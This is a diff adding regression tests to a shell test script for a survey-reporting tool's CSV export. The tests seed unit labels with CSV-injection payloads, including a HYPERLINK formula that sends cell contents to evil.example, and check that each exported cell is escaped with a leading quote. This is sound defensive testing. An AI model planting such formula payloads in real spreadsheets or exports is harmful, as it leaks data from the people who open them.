@@ -457,6 +457,63 @@ if psql -X -q -h "$PGHOST" -p "$PGPORT" -U postgres -d postgres -c "CREATE DATAB
 		grep -q "Enkäten för chefer ändrades under utvärderingen: version 1 vid 12 månader, version 2 vid 36 månader." "$WORK/vers.txt"
 	check "a report of one version says nothing of versions" \
 		bash -c '! grep -q "ändrades under utvärderingen" "$1"' _ "$WORK/slut.txt"
+	# ---- formula cells in the CSV tables (the one CSV writer, lib/csv.c) ----
+	# Unit report labels are typed by an administrator and printed in the
+	# table of respondents per kind of unit: each of OWASP's CSV injection
+	# triggers (= + - @ TAB CR) and the HYPERLINK that sends a cell away
+	# becomes a label with one participant of its own.
+	if VSQL "SET search_path = uppfolj;
+		INSERT INTO participant (study_id, panel_id, grp, unit_id, synthetic)
+			SELECT study_id, 'V-VERS07', 'chef', unit_id, true FROM unit;
+		INSERT INTO consent (participant_id, wave_id, info_version, decision)
+			SELECT participant_id, wave_id, 'test', 'given' FROM participant, wave
+			WHERE panel_id = 'V-VERS07';
+		INSERT INTO response (submission_id, participant_id, wave_id, instrument_id, version, status, submitted_at)
+			SELECT gen_random_uuid(), p.participant_id, w.wave_id, 'chef', wi.version, 'submitted', w.opens_on + 1
+			FROM participant p, wave w JOIN wave_instrument wi USING (wave_id) WHERE p.panel_id = 'V-VERS07';
+		INSERT INTO answer (response_id, instrument_id, version, item_id, value_int)
+			SELECT r.response_id, 'chef', r.version, ii.item_id, CASE r.version WHEN 1 THEN 4 ELSE 2 END
+			FROM response r JOIN participant p USING (participant_id)
+			JOIN instrument_item ii ON ii.instrument_id = 'chef' AND ii.version = r.version
+			WHERE ii.item_type = 'likert5' AND p.panel_id = 'V-VERS07';
+		WITH pay(k, v) AS (VALUES (1, '=1+1'), (2, '+1+1'), (3, '-1+1'), (4, '@SUM(1+1)'),
+			(5, E'\t=1+1'), (6, E'\r=1+1'), (7, '=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka\")'))
+		INSERT INTO unit (study_id, name, kind, huvudman, report_label)
+			SELECT study_id, 'Formel ' || k, 'heldygnsvard', 'region', v FROM study, pay;
+		UPDATE participant p SET unit_id = u.unit_id FROM unit u
+			WHERE u.name = 'Formel ' || right(p.panel_id, 1)::int;" >/dev/null; then
+		"$BIN" delrapport --wave 12 --db "host=$PGHOST port=$PGPORT dbname=$VERS_DB user=uppfolj_report" \
+			-o "$WORK/formula.pdf" --csv "$WORK/csv-formula" --quiet 2>"$WORK/formula.err"
+		bad=$(python3 - "$WORK"/csv-formula/*.csv <<'PY' 2>&1
+import csv, re, sys
+cells = set()
+for f in sys.argv[1:]:
+	cells.update(c for row in csv.reader(open(f, newline="", encoding="utf-8"), strict=True) for c in row)
+for p in ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+		'=HYPERLINK("http://evil.example/?d="&A1,"Klicka")']:
+	if "'" + p not in cells: print("missing with ': %r" % p)
+	if p in cells: print("bare: %r" % p)
+for c in cells:
+	if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?[0-9]+([.,][0-9]+)?", c):
+		print("formula cell: %r" % c[:40])
+PY
+)
+		check "delrapport --csv: formula labels (= + - @ tab CR, HYPERLINK) get a leading ' and none is bare" \
+			[ -n "$(ls "$WORK"/csv-formula/*.csv 2>/dev/null)" -a -z "$bad" ]
+		[ -z "$bad" ] || printf '# %s\n' "$bad" | head -n 10
+	else
+		not_ok "formula labels: could not set up units in $VERS_DB"
+	fi
+	# A negative figure of the program's own stays a number: chef items fell
+	# from 4 (version 1, 12 months) to 2 (version 2, 36 months).
+	neg=$(python3 - "$WORK"/csv-vers/*.csv <<'PY' 2>&1
+import csv, sys
+cells = [c for f in sys.argv[1:] for row in csv.reader(open(f, newline="", encoding="utf-8")) for c in row]
+print(sum(c == "-2,00" for c in cells), sum(c == "'-2,00" for c in cells))
+PY
+)
+	check "slutrapport --csv: the change -2,00 is written as a number, without ' ($neg)" \
+		[ "${neg% *}" -gt 0 -a "${neg#* }" = 0 ]
 else
 	not_ok "versions: could not set up database $VERS_DB"
 fi
